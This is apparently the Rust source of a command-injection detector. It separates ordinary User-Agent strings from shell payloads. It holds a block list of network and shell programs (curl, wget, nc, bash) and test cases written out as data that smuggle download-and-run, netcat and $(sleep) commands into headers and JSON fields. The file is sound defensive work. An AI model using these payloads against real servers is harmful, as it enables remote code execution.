//! User agents, which name programs and semicolons as commands do.

use super::unquote::unquote;
use crate::decode::Value;
use crate::inspect::builds::spies;
use crate::inspect::prefilter::is_agent;
use crate::inspect::Part;
use memchr::memmem;

/// Programs that fetch or run what they are given.
const FETCHING: [&[u8]; 18] = [
    b"bash",
    b"curl",
    b"ftp",
    b"lynx",
    b"nc",
    b"ncat",
    b"node",
    b"nslookup",
    b"perl",
    b"php",
    b"ping",
    b"python",
    b"python3",
    b"ruby",
    b"sh",
    b"telnet",
    b"tftp",
    b"wget",
];

/// Programs that run the one that is named behind them.
const RUNNING: [&[u8]; 6] = [b"busybox", b"env", b"exec", b"nohup", b"sudo", b"time"];

/// Tells a value that says from which client something came, and nothing that a shell would run.
pub(super) fn is_client(value: &Value<'_>) -> bool {
    if !(is_agent(value) || tells_agent(value)) || !names_clients(value.bytes) {
        return false;
    }
    // As a shell reads it, a word in pieces is one: `w""get`.
    unquote(value.bytes).is_none_or(|plain| names_clients(&plain))
}

/// Tells a field of JSON that says from which client something came, as logs and measurements do.
fn tells_agent(value: &Value<'_>) -> bool {
    const NAMES: [&[u8]; 4] = [b"ua", b"user-agent", b"user_agent", b"useragent"];
    let last = value.name.rsplit(|b| *b == b'.').next().unwrap_or_default();
    value.part == Part::Json && NAMES.iter().any(|name| last.eq_ignore_ascii_case(name))
}

/// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
/// no folders, and nothing that a program would be given.
fn names_clients(agent: &[u8]) -> bool {
    const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
    let mut pieces = agent.split(|b| matches!(b, b';' | b'&')).skip(1);
    memchr::memchr3(b'{', b'|', b'`', agent).is_none()
        && memmem::find(agent, b"$(").is_none()
        && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
        && !spies(agent)
        && !pieces.any(is_given)
}

/// Tells a name in small letters that is given an option or an address, `curl -o x`, or a program that is
/// given a place, `sudo wget a.example/x`. Clients are named with their versions.
fn is_given(mut piece: &[u8]) -> bool {
    let named = |b: &&u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    loop {
        piece = piece.trim_ascii_start();
        let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
        let given = rest.trim_ascii_start();
        if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
            return false;
        }
        if given.starts_with(b"-")
            || given.starts_with(b"http")
            || FETCHING.contains(&name) && is_place(given)
        {
            return true;
        }
        if !RUNNING.contains(&name) {
            return false;
        }
        piece = given;
    }
}

/// Tells a path, a host, a file or an address at the start: `a.example/x`, `x.py`, `192.0.2.1 80`. No
/// version is one, nor a product, `x/1.2`.
fn is_place(given: &[u8]) -> bool {
    let part = |b: &&u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
    let (host, rest) = given.split_at(given.iter().take_while(part).count());
    let last = host.rsplit(|b| *b == b'.').next().unwrap_or_default();
    let dotted = last.len() < host.len();
    let label = dotted && last.len() > 1 && last.iter().all(u8::is_ascii_alphabetic);
    let path = match rest {
        [b'/', first, ..] => !first.is_ascii_digit() || label,
        [b'/'] => true,
        _ => false,
    };
    path || label || is_number(host, rest)
}

/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones, or start
/// with a small one and have nothing behind them that an address has.
fn is_number(host: &[u8], behind: &[u8]) -> bool {
    const VERSIONS: std::ops::Range<u8> = 0..32;
    let text = std::str::from_utf8(host).unwrap_or_default();
    let address: Result<std::net::Ipv4Addr, _> = text.parse();
    let goes_on = matches!(
        behind.trim_ascii_start(),
        [b':' | b'/' | b'-' | b'0'..=b'9', ..]
    );
    address.is_ok_and(|address| {
        let [first, .., last] = address.octets();
        last != 0 && (goes_on || address.is_private() || !VERSIONS.contains(&first))
    })
}

#[cfg(test)]
mod tests {
    use crate::inspect::command::CommandInjection;
    use crate::inspect::{testing::score_at, Part};

    #[test]
    fn clients_name_no_folders() {
        let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
        assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
        assert!(agent("a$(sleep 5)") >= 0.5);
        assert!(agent("x;curl http://a.example/x -o y&&sh y") >= 0.5);
        assert!(agent("x; wget -O y a.example") >= 0.5);
        for text in [
            "x;wget a.example/x",
            "x;  wget\ta.example",
            "curl/8.0;wget 192.0.2.1/x",
            "x;nc 192.0.2.1 4444",
            "x; ping 192.0.2.1",
            "x&wget a.example/x.sh",
            "x;python3 x.py",
            "x;whoami",
            "Mozilla/5.0 (X11; Linux x86_64); curl a.example",
            "x; busybox wget http://a.example/x",
            "x; sudo nohup wget a.example/x",
            "x;w\"\"get http://a.example/x",
            "x; curl 7.68.0.1:8000",
            "x; wget 10.0.0.1",
        ] {
            assert!(agent(text) >= 0.5, "{text}");
        }
        for text in [
            "curl/8.5.0; php; node",
            "Guzzle/6.3; curl 7.68.0; php 7.4.3",
            "Mozilla/5.0 (compatible; php 8.1; curl 8.5.0.0)",
            "bot/1.0 (python 3.11; node 20.11.0; linux x86_64)",
            "x; node curl/8.5.0",
            "bot/1.0 (see a.example/bot; php 8.1)",
            "check/2.1; host web-1.a.example",
            "client; ruby 3.2.1p31; perl v5.34",
            "Dalvik/2.1.0 (Linux; U; Android 9; ip phone)",
            "sync; curl 7.68.0.1",
            "sync - client; wget 1.21.3.4; sudo 1.9.5",
            "sync's \"own\" client; curl 8.5",
        ] {
            assert!(agent(text) < 0.5, "{text}");
        }
    }

    #[test]
    fn documents_tell_of_clients() {
        let json = |name, text| score_at(&CommandInjection, Part::Json, name, text);
        let text = "Opera/9.80 (J2ME; Opera Mini/5.0 (Windows; U; more 9)); php 8.1";
        assert!(json(b"context.userAgent", text) < 0.5);
        assert!(json(b"context.userAgent", "x; node curl/8.5.0") < 0.5);
        assert!(json(b"context.host", "x; node curl/8.5.0") >= 0.5);
        assert!(json(b"context.userAgent", "x; php 8.1;curl a.example/x|sh") >= 0.5);
    }
}
